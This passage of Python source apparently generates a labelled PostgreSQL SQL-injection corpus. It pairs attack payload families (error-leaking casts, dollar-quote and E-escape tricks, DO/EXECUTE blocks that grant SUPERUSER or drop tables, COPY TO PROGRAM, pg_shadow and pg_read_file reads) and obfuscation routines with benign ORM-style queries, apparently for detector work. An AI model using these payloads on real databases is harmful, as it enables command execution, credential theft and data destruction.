            ("jsonpath_strict_build", "AND jsonb_path_query('{}', ('strict $.' || %s)::jsonpath) IS NULL" % x), ("jsonpath_cast", "AND %s::jsonpath IS NULL" % x),
            ("json_cast", "AND %s::json IS NULL" % x), ("bool_cast", "AND %s::boolean IS NULL" % x), ("inet_cast", "AND %s::inet IS NULL" % x),
            ("date_cast", "AND %s::date IS NULL" % x), ("regtype_cast", "AND %s::regtype IS NULL" % x), ("regnamespace_cast", "AND %s::regnamespace IS NULL" % x),
            ("regproc_cast", "AND %s::regproc IS NULL" % x), ("int8_cast", "AND %s::int8 = 0" % x), ("ls_dir_error", "AND (SELECT count(*) FROM pg_ls_dir(%s)) = 0" % x),
            ("current_setting_error", "AND current_setting(%s) IS NULL" % x), ("xpath_namespace_error", "AND xpath('/a', '<a/>'::xml, ARRAY[ARRAY['n', %s]]) IS NULL" % x),
            ("xml_cast", "AND ('<' || %s)::xml IS NULL" % x), ("cidr_cast", "AND %s::cidr IS NULL" % x), ("probe_div_zero", "AND 1 = (CASE WHEN %s THEN 1 ELSE 1/0 END)" % pe),
            ("stored_bool_cast", "AND %s::boolean IS NULL" % x)]] + [
            ("repl_regtype", "repl", "(SELECT %s::regtype::oid::int)" % x, PG), ("concat_inet", "concat", "%s::inet::text" % x, PG), ("order_int8", "order", "%s::int8" % x, PG),
            ("assign_bool", "assign", "{col} = %s::boolean::int" % x, PG), ("row_date", "row", row_of("%s::date" % x), PG), ("interval_jsonpath", "iexpr", "(%s::jsonpath)::text::interval" % x, PG),
            ("jkey_bool", "jkey", "%s::boolean::text" % x, PG), ("frame_int8", "frame", "%s::int8" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        gt = r.choice(GUESSED_TAGS)
        n = r.randint(1, 5)
        return [
            ("dollar_like", "cond", "OR %s LIKE %s" % (D(w), D(w[:2] + "%")), PG), ("dollar_lower_eq", "cond", "OR lower(%s) = %s" % (D(w.upper()), D(w)), PG),
            ("dollar_in_list", "cond", "OR %s IN (%s, %s)" % (D(w), D(w2), D(w)), PG), ("dollar_regrole_leak", "cond", "AND (%s || (%s)::text)::regrole IS NULL" % (D(w), e), PG),
            ("dollar_alter_system", "stack", "ALTER SYSTEM SET log_min_messages = %s" % D("panic"), PG),
            ("dollar_policy_true", "stack", "CREATE POLICY %s ON %s USING (%s = %s)" % (nm, t, D("x"), D("x")), PG),
            ("dollar_dblink_exec", "stack", "SELECT dblink_exec(%s, %s)" % (D("host=%s" % ip), D("DROP TABLE %s" % t)), PG),
            ("dollar_comment_on", "stack", "COMMENT ON TABLE %s IS %s" % (t, D("pwned by " + w)), PG),
            ("dollar_tag_guess_stack", "stack", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query LIKE %s" % D("%" + w + "%"), PG),
            ("dollar_union", "union", "UNION ALL SELECT %s" % nulls(n, r.randrange(n), "%s || (%s)::text" % (D("|"), e)), PG),
            ("dollar_concat", "concat", "%s || (%s)::text" % (D("="), e), PG), ("dollar_repl", "repl", "(SELECT length(%s))" % D(w), PG),
            ("dollar_assign", "assign", "{col} = %s" % D(w), PG), ("dollar_row", "row", row_of(D(w2)), PG), ("dollar_interval", "iexpr", "%s::interval" % D("%d hours" % a), PG)] + [
            ("tag_guess_" + (gt.strip("$").lower() or "empty") + "_close", "stack", "SELECT %s%s%s" % (gt, w, gt), PG)]
    if fam == "e_escape":
        oc = lambda v: "".join("\\%03o" % ord(c) for c in v)
        u4 = lambda v: "".join("\\u%04x" % ord(c) for c in v)
        return [
            ("e_octal_quote_eq", "cond", "OR E'\\047' = chr(39)", PG), ("e_u4_word_eq", "cond", "OR E'%s' = '%s'" % (u4(w), w), PG),
            ("e_octal_word_eq", "cond", "OR E'%s' = '%s'" % (oc(w), w), PG), ("uamp_plus6_eq", "cond", "OR U&'\\+000061' = 'a'", PG),
            ("uamp_ident_authid", "union", "UNION ALL SELECT %s FROM U&\"\\0070g_authid\"" % nulls(r.randint(1, 4), 0, "rolname"), PG),
            ("uamp_custom_escape", "cond", "OR U&'#%04x%s' UESCAPE '#' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("e_octal_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % oc(pc), PG), ("e_u4_ls_dir", "stack", "SELECT pg_ls_dir(E'%s')" % u4("/etc"), PG),
            ("e_octal_alter_system", "stack", "ALTER SYSTEM SET archive_command = E'%s'" % oc(pc), PG),
            ("e_union_octal", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "E'\\047' || (%s)::text" % e), PG),
            ("e_concat_tab", "concat", "E'\\t' || (%s)::text" % e, PG), ("e_interval_octal", "iexpr", "E'\\061 hour'::interval", PG),
            ("e_assign_u4", "assign", "{col} = E'\\u0031'", PG), ("e_row_octal", "row", row_of("E'%s'" % oc(w)), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["ALTER ROLE %s SUPERUSER" % role, "DROP TABLE %s" % t, "GRANT pg_execute_server_program TO %s" % role, "CREATE ROLE %s SUPERUSER LOGIN" % nm,
                         "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t, "ALTER SYSTEM SET log_statement = 'none'"])
        words = evil.split(" ")
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_array_join", "DO %s" % B("BEGIN EXECUTE array_to_string(ARRAY[%s], ' '); END" % ", ".join(q(x) for x in words))),
            ("do_execute_hex", "DO %s" % B("BEGIN EXECUTE convert_from(decode('%s', 'hex'), 'UTF8'); END" % evil.encode().hex())),
            ("do_execute_translate", "DO %s" % B("BEGIN EXECUTE translate('%s', '_', ' '); END" % sq(evil.replace(" ", "_")))),
            ("do_execute_format_I", "DO %s" % B("BEGIN EXECUTE format('ALTER ROLE %%I SUPERUSER', '%s'); END" % nm)),
            ("do_execute_split_concat", "DO %s" % B("DECLARE a text := '%s'; b text := '%s'; BEGIN EXECUTE a || b; END" % (sq(evil[:len(evil) // 2]), sq(evil[len(evil) // 2:])))),
            ("do_perform_dblink_exec", "DO %s" % B("BEGIN PERFORM dblink_exec('dbname=postgres', '%s'); END" % sq(sq(evil)))),
            ("do_advisory_lock_loop", "DO %s" % B("BEGIN FOR i IN 1..%d LOOP PERFORM pg_advisory_lock(i); END LOOP; PERFORM pg_sleep(%d); END" % (r.choice([50000, 100000]), s * 60))),
            ("do_raise_read_file", "DO %s" % B("BEGIN RAISE EXCEPTION '%%', pg_read_file('%s'); END" % f)),
            ("do_plperlu_system", "DO LANGUAGE plperlu %s" % B("system('%s');" % pc.replace("'", ""))),
            ("event_trigger_function", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS %s; CREATE EVENT TRIGGER %s ON sql_drop EXECUTE FUNCTION %s()" % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)), nm, nm)),
            ("security_definer_path", "CREATE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_temp AS %s" % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)))),
            ("procedure_call_loop", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS %s; CALL %s()" % (nm, B("BEGIN EXECUTE '%s'; END" % sq(evil)), nm)),
            ("stored_do_execute", "DO %s" % B("BEGIN EXECUTE '%s'; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("hba_rules_agg", "(SELECT string_agg(type || ' ' || auth_method, ';') FROM pg_hba_file_rules)"), ("user_mapping_options", "(SELECT string_agg(array_to_string(umoptions, ','), ';') FROM pg_user_mappings)"),
            ("subconninfo", "(SELECT string_agg(subconninfo, ';') FROM pg_subscription)"), ("ls_dir_listing", "(SELECT string_agg(d, ',') FROM pg_ls_dir('.') d)"),
            ("data_directory", "current_setting('data_directory')"), ("settings_json", "(SELECT jsonb_object_agg(name, setting)::text FROM pg_settings WHERE name LIKE 'ssl%%')"),
            ("row_to_json_loot", "(SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t), ("string_agg_loot", "(SELECT string_agg(%s || '=' || %s, ';') FROM %s)" % (u, p, t)),
            ("xmlforest_loot", "(SELECT xmlagg(xmlforest(%s, %s))::text FROM %s)" % (u, p, t)), ("shadow_hashes", "(SELECT string_agg(passwd, ',') FROM pg_shadow)"),
            ("stored_concat_loot", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)), ("probe_y_n", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe)]] + [
            ("assign_row_to_json", "assign", "{col} = (SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t, PG),
            ("row_string_agg", "row", row_of("(SELECT string_agg(%s, ',') FROM %s)" % (p, t), "NULL"), PG), ("jkey_loot", "jkey", "(SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off: comment spellings the earlier files used least or not at all."""
    return r.choice(["--", "--", "-- ", "--\t", "--!", "--=", "--~", "--|", "--$", "/**", "/* x", ";/*", "--\u2003", "--;--", "/**/--", "-- -- ",
                     "--%d" % r.randint(0, 9), "--\u00a0", "-- ñ", "--%s" % rword(r, 2)])


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 5
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 10
        else:
            out.append(c)
    return out


def hand(r, si, fam):
    return corpus_kit.slot_hand(globals(), r, si, fam)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.upper() if j % 3 == 0 else c.lower() for j, c in enumerate(w))
            if style == 1:
                return w[:1].lower() + w[1:].upper()
            if style == 2:
                return "".join(c.lower() if c.lower() in "aeiou" else c.upper() for c in w)
            if style == 3:
                return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)
            return w[:-1].lower() + w[-1:].upper()
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t\t", "\n\n", "\r\n\t", " \f ", "\f\n", "\t \r", "\n\r\f", "  \t  ", "\f\f\f"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\)", lambda m: r.choice([")\t", ")\n", ")"]) if r.random() < 0.3 else ")", t)
            return re.sub(r"((?<![<>!:=])=(?![=>])|\|\||::)", lambda m: r.choice(["\t", "\n", "\f"]) + m.group(1) + r.choice(["\r\n", "\t", ""]) if r.random() < 0.4 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/*19*/", "/**//**/", "/*+*/", "/* */", "/*\t*/", "/*select*/", "/*/*n*/*/", "/*!*/", "/*==*/", "/*%s*/" % rword(r, r.randint(1, 4)), "/*\r\n*/"]
        split_kw = r.random() < 0.15

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if split_kw:
                t = re.sub(r"\b(SELECT|UNION|FROM|WHEN|AND)\b", lambda m: m.group(0)[:1] + "/**/" + m.group(0)[1:], t, count=1)
            return re.sub(r",", lambda m: ",/**/" if r.random() < 0.3 else ",", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in|BY|by) (\d+|true|false|NULL|null|current_user|now\(\)|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select|THEN|then|ELSE|else) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Ines O'Dwyer", "Priya Shah", "Maud Eliot", "Tomás Ó Dálaigh", "Dr Okafor", "Bert", "Hanne Kjær", "Kwame Asante", "Lena Wójcik", "Shelly's keeper", "Ryo"]
CRAFT = ["Solent Flyer", "Island Express", "Freedom 90", "Mountbatten"]
RECORDS = ["Crazy", "Apache", "Heartbreak Hotel", "Walk On By", "Rock Around the Clock"]
COUNTIES = ["Kilkenny", "Tipperary", "Galway", "Clare", "Limerick", "Waterford"]


def complex_gens():
    G, add = registry()

    @add("cx19_sqlx_gorm_ent", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT crossing_id, craft_name, departs_at, seats_left FROM hover_crossings WHERE route_code = $1 AND departs_at >= $2 ORDER BY departs_at LIMIT %d" % r.choice([10, 20, 50]),
            "SELECT * FROM \"airship_flights\" WHERE \"airship_flights\".\"id\" = %d AND \"airship_flights\".\"deleted_at\" IS NULL ORDER BY \"airship_flights\".\"id\" LIMIT 1" % r.randint(1, 9000),
            "UPDATE \"flight_bookings\" SET \"seats\"=$1,\"updated_at\"=$2 WHERE \"flight_bookings\".\"deleted_at\" IS NULL AND \"id\" = %d" % r.randint(1, 90000),
            "SELECT \"mooring_masts\".\"id\", \"mooring_masts\".\"site\", \"mooring_masts\".\"height_m\" FROM \"mooring_masts\" WHERE \"mooring_masts\".\"height_m\" > $1 LIMIT %d" % r.randint(2, 60),
            "SELECT COUNT(*) FROM \"pilot_logs\" WHERE \"pilot_logs\".\"pilot_id\" = $1 AND \"pilot_logs\".\"logged_on\" >= $2",
            "INSERT INTO \"flight_bookings\" (\"flight_id\",\"passenger_email\",\"seats\",\"created_at\") VALUES ($1,$2,$3,$4) RETURNING \"id\""])

    @add("cx19_jooq_panache_micronaut", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select \"dials\".\"dial_id\", \"dials\".\"maker\", \"dials\".\"made_year\" from \"dials\" where \"dials\".\"made_year\" between $1 and $2 order by \"dials\".\"made_year\" asc fetch next %d rows only" % r.choice([10, 25]),
            "select count(*) from \"restoration_log\" where \"restoration_log\".\"dial_id\" = %d" % r.randint(1, 900),
            "SELECT g1_0.gnomon_id, g1_0.material, g1_0.recast_count FROM gnomons g1_0 WHERE g1_0.dial_id = $1 OFFSET %d ROWS FETCH FIRST %d ROWS ONLY" % (r.choice([0, 20]), r.choice([20, 50])),
            "SELECT reed_block_.reed_id, reed_block_.pitch_hz FROM reed_blocks reed_block_ WHERE (reed_block_.instrument_id = $1) ORDER BY reed_block_.pitch_hz LIMIT %d" % r.randint(5, 80),
            "UPDATE bellows SET leak_test = $1, tested_on = $2 WHERE id = %d" % r.randint(1, 3000),
            "SELECT \"t1\".\"instrument_id\", \"t1\".\"tuning\" FROM \"instruments\" \"t1\" WHERE \"t1\".\"cents_offset\" > %d" % r.randint(0, 30)])

    @add("cx19_kysely_mikro_slonik", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select \"session_id\", \"court\" from \"jump_sessions\" where \"starts_at\" between $1 and $2 and \"court\" in (%s) order by \"starts_at\"" % params(r.randint(1, 4), 3),
            "select \"m0\".* from \"members\" as \"m0\" where \"m0\".\"id\" = %d limit 1" % r.randint(1, 40000),
            "insert into \"party_bookings\" (\"host_name\", \"kids\", \"package\", \"party_on\") values ($1, $2, $3, $4) returning \"id\"",
            "SELECT pattern_id, title FROM lace_patterns WHERE pattern_id = ANY($1::int[]) ORDER BY title LIMIT %d" % r.randint(5, 50),
            "SELECT \"id\",\"title\",\"designer\" FROM \"lace_patterns\" WHERE \"bobbins\">=%d ORDER BY \"title\" LIMIT %d" % (r.randint(8, 40), r.choice([10, 20])),
            "delete from \"waivers\" where \"signed_at\" < $1 and \"waiver_id\" not in (%s)" % params(r.randint(1, 3), 2)])

    @add("cx19_rom_hanami_cake_ecto", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT \"orders\".\"id\", \"orders\".\"vessel\", \"orders\".\"total\" FROM \"orders\" WHERE (\"orders\".\"id\" = %d) ORDER BY \"orders\".\"id\"" % r.randint(1, 50000),
            "SELECT \"lanes\".\"lane_no\", \"lanes\".\"oil_pattern\" FROM \"lanes\" WHERE (\"lanes\".\"lane_no\" IN (%s)) ORDER BY \"lanes\".\"lane_no\"" % ids(r, r.randint(2, 5), 33),
            "SELECT Tortoises.id AS Tortoises__id, Tortoises.species AS Tortoises__species FROM tortoises Tortoises WHERE Tortoises.id = %d LIMIT 1" % r.randint(1, 400),
            "SELECT e0.\"id\", e0.\"name\", e0.\"temp_c\" FROM \"enclosures\" AS e0 WHERE (e0.\"zone\" = $1) ORDER BY e0.\"name\"",
            "INSERT INTO \"vet_notes\" (\"note\",\"tortoise_id\",\"vet\",\"inserted_at\") VALUES ($1,$2,$3,$4) RETURNING \"id\"",
            "UPDATE feed_plans SET greens_g = $1, modified = $2 WHERE id = %d" % r.randint(1, 600)])

    @add("cx19_builtin_json_text", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 900), 2))
        w = rword(r, r.randint(4, 8))
        return r.choice([
            "SELECT jsonb_path_query_first('{\"cabins\": [{\"seats\": %d}, {\"seats\": %d}]}', '$.cabins[*] ? (@.seats > %d).seats')" % (a, b, a),
            "SELECT jsonb_insert('{\"stage\": [\"strip\"]}', '{stage, 0}', '\"%s\"')" % w, "SELECT jsonb_object_agg(k, v) FROM (VALUES ('%s', %d), ('%s', %d)) t(k, v)" % (w, a, w[::-1], b),
            "SELECT json_strip_nulls(json_build_object('lane', %d, 'oil', NULL))" % a, "SELECT jsonb_path_exists('{\"rpm\": %d}', '$.rpm ? (@ == 78)')" % r.choice([45, 78]),
            "SELECT string_agg(x, ' / ' ORDER BY x) FROM regexp_split_to_table('%s %s %s', '\\s+') x" % (w, rword(r, 3), rword(r, 5)),
            "SELECT quote_ident('%s %s'), quote_literal('%s''s')" % (w, w, w), "SELECT left('%s', %d), right('%s', %d)" % (w, a % 5, w, b % 5),
            "SELECT to_char(%d, 'FMRN')" % (a % 3999 + 1), "SELECT split_part('%s.%s.%s', '.', %d)" % (w, w[:2], w[1:], a % 3 + 1),
            "SELECT initcap('%s of the %s')" % (w, rword(r, 4)), "SELECT sha256('%s'::bytea)" % w, "SELECT length(repeat('%s', %d))" % (w, a % 9 + 1),
            "SELECT array_to_string(ARRAY[%d, NULL, %d], ',', '*')" % (a, b), "SELECT unnest(string_to_array('%s,%s', ','))" % (w, w[::-1]),
            "SELECT regexp_replace('%s-%d', '\\d+', 'N')" % (w, a), "SELECT regexp_count('%s%s', '%s')" % (w, w, w[:2]),
            "SELECT to_json(ARRAY[%d, %d])" % (a, b), "SELECT jsonb_array_length('[%d, %d, %d]')" % (a, b, a + b), "SELECT encode(convert_to('%s', 'UTF8'), 'base64')" % w])

    @add("cx19_builtin_num_time_net", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 80), r.randint(1, 80)
        d = rdate(r)
        return r.choice([
            "SELECT round(%d.%d / 3.0, 2), trunc(%d.%d), ceil(%d.1)" % (a, b, b, a, a), "SELECT factorial(%d)" % (a % 15), "SELECT div(%d, %d), mod(%d, %d)" % (a * b, b, a * b, a),
            "SELECT scale(%d.%03d), min_scale(%d.500)" % (a, b, a), "SELECT width_bucket(%d.5, ARRAY[10, 20, 40, 80])" % a, "SELECT %d::numeric / 7 AS ratio" % a,
            "SELECT date '%s' + %d" % (d, a), "SELECT make_date(%s)" % d.replace("-0", "-").replace("-", ", "), "SELECT extract(isodow FROM date '%s')" % d,
            "SELECT date_trunc('quarter', timestamp '%s 12:00')" % d, "SELECT to_char(date '%s', 'Day DD Month YYYY')" % d, "SELECT justify_interval(interval '%d hours')" % (a * 7),
            "SELECT inet '192.0.2.%d' << inet '192.0.2.0/24'" % a, "SELECT host(inet '198.51.100.%d/24'), masklen(cidr '10.%d.0.0/16')" % (a, b),
            "SELECT set_masklen(inet '203.0.113.%d', %d)" % (a, b % 32 + 1), "SELECT int4range(%d, %d) * int4range(%d, %d)" % (min(a, b), max(a, b) + 1, a // 2, a + b),
            "SELECT daterange(date '%s', date '%s' + %d, '[]') @> current_date" % (d, d, a), "SELECT numrange(%d.5, %d.5) && numrange(1, 2)" % (min(a, b), max(a, b) + 1),
            "SELECT lower(tstzrange(now(), now() + interval '%d days'))" % a, "SELECT pg_size_pretty(%d::bigint * 1024 * 1024)" % a])

    @add("cx19_comments", "complex_comments_hints")
    def _(r):
        c = r.choice(["-- sqlx: crossings.rs:%d\n" % r.randint(10, 400), "/* gorm:clause.Expr */ ", "/* ent: mooringmast.Query() */ ", "/* jOOQ generated */ ",
                      "/* micronaut-data: RepairRepository.findOpen */ ", "-- kysely\n", "/* mikro-orm */ ", "/* slonik: lace.sql */ ", "/* tortoise */ ",
                      "/* piccolo: Item.raw */ ", "-- rom-sql relation orders\n", "/* hanami */ ", "/* cakephp: TortoisesTable::find */ ", "/*app:jukebox,route:/parts*/ ",
                      "-- postgraphile\n", "/* {\"app\": \"dbt\", \"node_id\": \"model.studio.batch_summary\"} */\n", "/* airbyte normalization */ ",
                      "-- run by .github/workflows/seed.yml\n", "-- managed by terraform\n", "-- ansible: postgresql_query\n", "/* operator reconcile gen=%d */ " % r.randint(1, 90)])
        body = r.choice(["SELECT crossing_id FROM hover_crossings WHERE status = 'held'", "SELECT count(*) FROM jump_sessions WHERE court = 'dodgeball'",
                         "SELECT dial_id, motto FROM dials WHERE made_year < %d" % r.randint(1600, 1900), "UPDATE item SET qty = qty - 1 WHERE sku = 'SHK-D-10'",
                         "SELECT bowler_id, avg(score) FROM league_scores GROUP BY bowler_id", "SELECT record_id FROM jukebox_records WHERE rpm = %d" % r.choice([45, 78]),
                         "SELECT bore_id, yield_lpm FROM boreholes WHERE depth_m > %d" % r.randint(10, 200)])
        return r.choice([c + body, body + r.choice([" -- don't cache", " /* end */", "\n-- ok", " -- $1 unused here", " /* it's fine */"])])

    @add("cx19_cte_window", "complex_cte_window")
    def _(r):
        n = r.randint(2, 12)
        return r.choice([
            "WITH legs AS (SELECT route_id, leg, wind_kts, max(wind_kts) OVER (PARTITION BY route_id) AS peak FROM route_winds) SELECT * FROM legs WHERE peak < %d" % (n * 4),
            "SELECT bowler_id, week, score, avg(score) OVER (PARTITION BY bowler_id ORDER BY week ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS form FROM league_scores" % n,
            "SELECT tortoise_id, weighed_on, grams, grams - lag(grams) OVER (PARTITION BY tortoise_id ORDER BY weighed_on) AS delta FROM weigh_ins WHERE weighed_on > current_date - %d" % (n * 30),
            "WITH RECURSIVE chain(part_no, parent_no, lvl) AS (SELECT part_no, parent_no, 1 FROM jukebox_parts WHERE part_no = 'MECH-%d' UNION ALL SELECT p.part_no, p.parent_no, c.lvl + 1 FROM jukebox_parts p JOIN chain c ON p.parent_no = c.part_no) SELECT * FROM chain" % r.randint(1, 999),
            "SELECT county, player_id, points, dense_rank() OVER w AS dr, percent_rank() OVER w AS pr FROM scoring WINDOW w AS (PARTITION BY county ORDER BY points DESC) LIMIT %d" % (n * 5),
            "WITH y AS NOT MATERIALIZED (SELECT bore_id, avg(yield_lpm) AS y FROM pump_tests GROUP BY bore_id) SELECT bore_id, y, ntile(%d) OVER (ORDER BY y) FROM y" % n,
            "SELECT crossing_id, departs_at, count(*) FILTER (WHERE status = 'held') OVER (ORDER BY departs_at RANGE BETWEEN interval '%d days' PRECEDING AND CURRENT ROW) FROM hover_crossings" % n])

    @add("cx19_query_builders", "complex_query_builder")
    def _(r):
        k = r.randint(1, 5)
        return r.choice([
            "SELECT \"item\".\"sku\", \"item\".\"qty\" FROM \"item\" WHERE \"item\".\"category\" IN (%s) AND \"item\".\"qty\" > 0 ORDER BY \"item\".\"sku\" LIMIT %d" % (params(k), r.choice([20, 100])),
            "SELECT player_id, name FROM panel WHERE county = $1 AND position = ANY($2) ORDER BY name OFFSET %d LIMIT %d" % (r.randint(0, 5) * 10, r.choice([10, 25])),
            "SELECT \"lane_no\", count(*) AS games FROM \"league_scores\" WHERE \"league\" = $1 GROUP BY \"lane_no\" HAVING count(*) > %d" % k,
            "UPDATE \"sweep_jobs\" SET \"status\" = $1 WHERE \"job_id\" IN (%s) RETURNING \"job_id\"" % params(k, 2),
            "SELECT t.id, t.name, e.name AS enclosure FROM tortoises t LEFT JOIN enclosures e ON e.id = t.enclosure_id WHERE t.species = $1 AND t.age_years BETWEEN $2 AND $3 LIMIT %d" % r.choice([15, 40]),
            "DELETE FROM \"plays\" WHERE \"jukebox_id\" = $1 AND \"played_at\" < now() - interval '%d days'" % r.randint(30, 720),
            "SELECT bore_id FROM boreholes WHERE (aquifer = $1 OR aquifer = $2) AND depth_m < %d ORDER BY depth_m" % r.randint(20, 300)])

    @add("cx19_migration_scripts", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE TABLE gnomon_audit_%d (id bigserial PRIMARY KEY, gnomon_id int NOT NULL, changed_at timestamptz DEFAULT now());\nCREATE INDEX ON gnomon_audit_%d (gnomon_id);\nCOMMENT ON TABLE gnomon_audit_%d IS 'who touched which gnomon';" % (n, n, n),
            "BEGIN;\nALTER TABLE lanes ADD COLUMN resurfaced_on_%d date;\nUPDATE lanes SET resurfaced_on_%d = current_date WHERE lane_no <= 4;\nCOMMIT;" % (n, n),
            "SET lock_timeout = '3s'; ALTER TABLE party_bookings ADD COLUMN allergy_notes_%d text; RESET lock_timeout" % n,
            "CREATE SCHEMA IF NOT EXISTS band_%d; GRANT USAGE ON SCHEMA band_%d TO band_librarian; ALTER DEFAULT PRIVILEGES IN SCHEMA band_%d GRANT SELECT ON TABLES TO band_librarian" % (n, n, n),
            "CREATE TABLE weigh_ins_p%d PARTITION OF weigh_ins FOR VALUES FROM ('%d-01-01') TO ('%d-01-01'); CREATE INDEX ON weigh_ins_p%d (tortoise_id)" % (n, 2000 + n, 2001 + n, n),
            "ALTER TABLE repair_tickets ADD COLUMN priority_%d smallint; ALTER TABLE repair_tickets ALTER COLUMN priority_%d SET DEFAULT 3; UPDATE repair_tickets SET priority_%d = 3 WHERE priority_%d IS NULL" % (n, n, n, n),
            "CREATE PUBLICATION drill_pub_%d FOR TABLE boreholes, pump_tests; ALTER PUBLICATION drill_pub_%d ADD TABLE casing_log" % (n, n),
            "CREATE TYPE sweep_outcome_%d AS ENUM ('clean', 'advisory', 'condemned'); ALTER TABLE sweep_jobs ADD COLUMN outcome_%d sweep_outcome_%d" % (n, n, n)])

    @add("cx19_union_reports", "complex_union_report")
    def _(r):
        y = r.randint(2018, 2026)
        return r.choice([
            "SELECT 'crossings' AS kind, count(*) FROM hover_crossings WHERE date_part('year', departs_at) = %d UNION ALL SELECT 'held', count(*) FROM hover_crossings WHERE status = 'held' AND date_part('year', departs_at) = %d" % (y, y),
            "SELECT sku FROM item WHERE category = 'shackles' EXCEPT SELECT sku FROM price_list WHERE supplier = 'Lewmar' ORDER BY 1 LIMIT %d" % r.randint(5, 50),
            "(SELECT bowler_id, max(score) AS s FROM league_scores WHERE season = %d GROUP BY bowler_id ORDER BY s DESC LIMIT 3) UNION ALL (SELECT bowler_id, min(score) FROM league_scores WHERE season = %d GROUP BY bowler_id ORDER BY 2 LIMIT 3)" % (y, y),
            "SELECT county FROM panel WHERE season = %d INTERSECT SELECT home FROM fixtures WHERE date_part('year', throw_in) = %d" % (y, y),
            "SELECT 'reed' AS part, count(*) FROM reed_blocks UNION SELECT 'bellows', count(*) FROM bellows WHERE folds > %d" % r.randint(10, 20)])

    @add("cx19_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return r.choice([
            "INSERT INTO league_scores (bowler_id, week, game_no, score) VALUES %s" % ", ".join("(%d, %d, %d, %d)" % (r.randint(1, 400), r.randint(1, 34), r.randint(1, 3), r.randint(80, 300)) for _ in range(k)),
            "INSERT INTO guild_members (member_no, display_name, region) VALUES %s ON CONFLICT (member_no) DO NOTHING" % ", ".join("(%d, '%s', 'Devon')" % (r.randint(1, 9000), q(r.choice(PEOPLE))[1:-1]) for _ in range(k)),
            "INSERT INTO casing_log (bore_id, from_m, to_m, material) SELECT %d, g, g + 6, 'uPVC' FROM generate_series(0, %d, 6) g" % (r.randint(1, 2000), k * 6),
            "INSERT INTO plays (jukebox_id, record_id, played_at) SELECT %d, rec, now() FROM unnest(ARRAY[%s]) rec" % (r.randint(1, 40), ids(r, k, 600)),
